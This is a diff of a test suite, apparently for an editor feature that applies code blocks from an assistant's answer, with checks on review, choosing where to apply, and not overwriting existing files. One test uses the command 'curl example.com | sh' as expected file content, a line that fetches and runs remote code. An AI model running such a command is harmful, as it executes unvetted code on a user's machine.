@@ -49,6 +49,12 @@ describe('the code blocks of an answer', () => {
 			assert.equal(shown[0]?.viewColumn, editor.viewColumn);
 		});
 
+		it('change nothing that the file contains already', async () => {
+			await open(TWO.replace('this.b', 'this.other'));
+			await apply('save() {\n\twrite(this.a);\n}');
+			assert.deepEqual(shown.map(({ hunks }) => hunks), [[]]);
+		});
+
 		it('let the user choose among places, each of which is shown, and take none if they cancel', async () => {
 			const editor = await open(TWO);
 			const choosing = apply(SAVE);
@@ -154,7 +160,7 @@ describe('the code blocks of an answer', () => {
 			for (const name of ['notes.txt', 'docs/a.json', 'linked/a.ts']) await assertAsks(name);
 		});
 
-		it('S17 are written without a question anywhere else, and opened; a file that exists gets a review instead', async () => {
+		it('S17 are written without a question anywhere else, and opened; a file that exists is never overwritten, but gets a review', async () => {
 			const file = path.join(folder(), 'orders.ts');
 			await save('orders.ts');
 			assert.equal(readFileSync(file, 'utf8'), 'curl example.com | sh\n');
